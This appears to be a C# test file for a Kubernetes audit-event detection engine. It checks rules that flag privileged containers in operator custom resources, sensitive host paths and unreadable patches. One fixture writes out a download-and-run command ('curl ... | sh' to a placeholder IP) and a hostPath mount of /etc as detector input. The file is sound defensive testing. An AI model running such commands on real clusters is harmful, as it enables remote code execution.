using System.Text.Json;
using Crowsnest.Core.Rules;
using Crowsnest.Testing;

namespace Crowsnest.Core.Tests.Rules;

/// <summary>Pods inside the objects of operators.</summary>
public sealed class CustomPodSpecTests
{
    private const string Privileged = """{"image":"registry.example.org/app:1","securityContext":{"privileged":true}}""";

    private static readonly RuleSet Shipped = RuleSet.Load(RepositoryFiles.RuleFiles);

    [Theory]
    [InlineData("argoproj.io", "workflows", $$$$$$$"""{"spec":{"templates":[{"name":"m","container":{{{{{{{Privileged}}}}}}}}]}}""")]
    [InlineData("argoproj.io", "workflows", $$$$$$$"""{"spec":{"templates":[{"name":"m","script":{{{{{{{Privileged}}}}}}}}]}}""")]
    [InlineData("argoproj.io", "cronworkflows", $$$$$$$"""{"spec":{"workflowSpec":{"templates":[{"sidecars":[{{{{{{{Privileged}}}}}}}]}]}}}""")]
    [InlineData("argoproj.io", "workflows", """{"spec":{"podSpecPatch":"containers:\n- name: main\n  securityContext:\n    privileged: true\n"}}""")]
    [InlineData("tekton.dev", "taskruns", $$$$$$$"""{"spec":{"taskSpec":{"steps":[{{{{{{{Privileged}}}}}}}]}}}""")]
    [InlineData("tekton.dev", "pipelineruns", """{"spec":{"pipelineSpec":{"tasks":[{"taskSpec":{"stepTemplate":{"securityContext":{"privileged":true}}}}]}}}""")]
    [InlineData("serving.knative.dev", "services", $$$$$$$"""{"spec":{"template":{"spec":{"containers":[{{{{{{{Privileged}}}}}}}]}}}}""")]
    [InlineData("batch.volcano.sh", "jobs", $$$$$$$"""{"spec":{"tasks":[{"template":{"spec":{"containers":[{{{{{{{Privileged}}}}}}}]}}}]}}""")]
    [InlineData("sparkoperator.k8s.io", "sparkapplications", """{"spec":{"executor":{"securityContext":{"privileged":true}}}}""")]
    [InlineData("kubeflow.org", "tfjobs", $$$$$$$"""{"spec":{"tfReplicaSpecs":{"Worker":{"template":{"spec":{"containers":[{{{{{{{Privileged}}}}}}}]}}}}}}""")]
    public void Match_PrivilegedContainerInACustomObject_IsFound(string group, string resource, string body) =>
        Assert.Contains("privileged-container", Names(new EventJson { ApiGroup = group, Resource = resource, RequestObject = body }));

    [Fact]
    public void Match_VolumeAndScriptOfAWorkflow_AreFound()
    {
        EventJson json = new()
        {
            ApiGroup = "argoproj.io",
            Resource = "workflows",
            RequestObject = """{"spec":{"volumes":[{"hostPath":{"path":"/etc"}}],"templates":[{"script":{"image":"a","source":"curl http://192.0.2.1/a | sh"}}]}}""",
        };

        Assert.Contains("sensitive-host-path", Names(json));
        Assert.Contains("download-and-run", Names(json));
    }

    [Theory]
    [InlineData("", "services", "create", $$$$$$$"""{"spec":{"template":{"spec":{"containers":[{{{{{{{Privileged}}}}}}}]}}}}""")]
    [InlineData("example.org", "workflows", "create", $$$$$$$"""{"spec":{"templates":[{"container":{{{{{{{Privileged}}}}}}}}]}}""")]
    [InlineData("argoproj.io", "workflows", "create", $$$$$$$"""{"spec":{},"status":{"templates":[{"container":{{{{{{{Privileged}}}}}}}}]}}""")]
    [InlineData("argoproj.io", "workflows", "update", $$$$$$$"""{"spec":{"templates":[{"container":{{{{{{{Privileged}}}}}}}}]},"status":{"phase":"Running"}}""")]
    public void Match_WhatIsNoPodOrProgressOfARun_IsNot(string group, string resource, string verb, string body) =>
        Assert.DoesNotContain("privileged-container", Names(new EventJson { ApiGroup = group, Resource = resource, Verb = verb, RequestObject = body }));

    [Fact]
    public void Parse_AliasesInYaml_AreBounded()
    {
        string text = "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + string.Concat(
            Enumerable.Range(1, 9).Select(static i => $"a{i}: &a{i} [{string.Join(',', Enumerable.Repeat($"*a{i - 1}", 9))}]\n"));

        Assert.Null(EmbeddedYaml.Parse(text));
    }

    [Theory]
    [InlineData("/var/lib//kubelet/./pods/", "/var/lib/kubelet/pods")]
    [InlineData("/a/../etc", "/etc")]
    [InlineData("C:\\Windows\\..\\K", "c:/k")]
    [InlineData("/", "/")]
    [InlineData("C:", "c:/")]
    public void VolumePaths_APath_HasOneSpelling(string path, string expected)
    {
        EventJson json = new()
        {
            Resource = "persistentvolumes",
            RequestObject = $"{{\"spec\":{{\"local\":{{\"path\":{JsonSerializer.Serialize(path)}}}}}}}",
        };
        using EventView view = new(json.ToEvent());

        Assert.Equal(expected, Assert.Single(VolumePaths.Of(view)));
    }

    [Fact]
    public void Match_MorePartsThanAreLookedThrough_IsAFindingOfItsOwn()
    {
        string padding = string.Join(',', Enumerable.Repeat("{}", 30_000));
        EventJson json = new()
        {
            ApiGroup = "argoproj.io",
            Resource = "workflows",
            RequestObject = $"{{\"spec\":{{\"padding\":[{padding}],\"templates\":[{{\"container\":{Privileged}}}]}}}}",
        };

        Assert.Contains("unverified-change", Names(json));
    }

    [Theory]
    [InlineData("containers: [}")]
    [InlineData("# padding\ncontainers:\n- name: main\n  securityContext:\n    privileged: true\n", 70_000)]
    public void Match_PatchThatCannotBeRead_IsAFindingOfItsOwn(string patch, int padding = 0)
    {
        EventJson json = new()
        {
            ApiGroup = "argoproj.io",
            Resource = "workflows",
            RequestObject = $"{{\"spec\":{{\"podSpecPatch\":{JsonSerializer.Serialize(new string('\n', padding) + patch)}}}}}",
        };

        Assert.Contains("unverified-change", Names(json));
    }

    private static List<string> Names(EventJson json)
    {
        using EventView view = new(json.ToEvent());
        List<SigmaRule> matches = [];
        Shipped.Match(view, matches);
        return [.. matches.Select(static rule => rule.Name)];
    }
}
